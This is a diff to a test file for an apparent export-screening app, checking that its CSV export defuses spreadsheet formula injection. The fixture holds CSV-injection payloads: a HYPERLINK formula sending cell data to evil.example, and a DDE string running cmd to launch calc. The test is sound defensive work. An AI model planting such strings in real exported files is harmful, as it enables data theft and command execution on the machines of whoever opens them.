@@ -9,13 +9,15 @@ import { parseCsv } from '../helpers/csv.js';
 import { bearer, createKey, makeKeyedApp, TEST_ADMIN_KEY, type KeyedTestApp } from '../helpers/keys.js';
 import { withLists } from '../helpers/ruleset.js';
 
+// A reference or party name starting with = + or @ is refused at input (tests/http/strict-input.test.ts); one
+// starting with '-' is a legitimate reference (and a formula to a spreadsheet): the export defuses it.
 const shipment = {
-  reference: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+  reference: '-1+HYPERLINK("http://evil.example/?"&A1,"open")',
   shipDate: '2026-11-30',
   items: [{ model: 'NVIDIA H200 SXM 141GB', quantity: 16 }],
   parties: [
     { role: 'buyer', name: 'Lion City Compute Pte. Ltd.', country: 'SG', headquartersCountry: 'CN', businessType: 'cloud' },
-    { role: 'end_user', name: '@SUM(1+1)*cmd|" /C calc"!A0', country: 'Malaysia' },
+    { role: 'end_user', name: '-SUM(1+1)*cmd|" /C calc"!A0', country: 'Malaysia' },
   ],
   route: { origin: 'US', via: ['SG'], destination: 'MY' },
   endUse: 'Cloud GPU rental',
@@ -75,7 +77,7 @@ describe('fit for daily use', () => {
     const cell = (name: string) => row![header!.indexOf(name)] as string;
     expect(header).not.toContain('dispositions');
     expect(cell('reference')).toBe(`'${shipment.reference}`);
-    expect(cell('parties')).toBe('buyer: Lion City Compute Pte. Ltd. (SG); end_user: @SUM(1+1)*cmd|" /C calc"!A0 (Malaysia)');
+    expect(cell('parties')).toBe('buyer: Lion City Compute Pte. Ltd. (SG); end_user: -SUM(1+1)*cmd|" /C calc"!A0 (Malaysia)');
     expect(cell('route')).toBe('US > SG > MY');
     expect(cell('flag_messages')).toMatch(/^[A-Z0-9-]+: .+/);
     expect(cell('screened_by')).toBe('test submitter');
